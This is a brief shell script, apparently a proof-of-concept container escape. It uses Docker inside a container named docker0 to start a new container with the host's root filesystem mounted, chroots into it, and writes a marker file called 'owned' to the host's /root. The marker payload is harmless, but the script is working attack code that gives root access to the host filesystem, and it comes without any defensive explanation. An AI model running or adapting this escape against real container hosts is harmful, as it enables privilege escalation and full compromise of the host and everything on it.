#!/bin/sh
# The host's / is one mount away.
set -eu
docker exec docker0 docker run --rm -v /:/host alpine chroot /host sh -c 'cat /proc/sys/kernel/hostname > /root/owned'
cat /root/owned
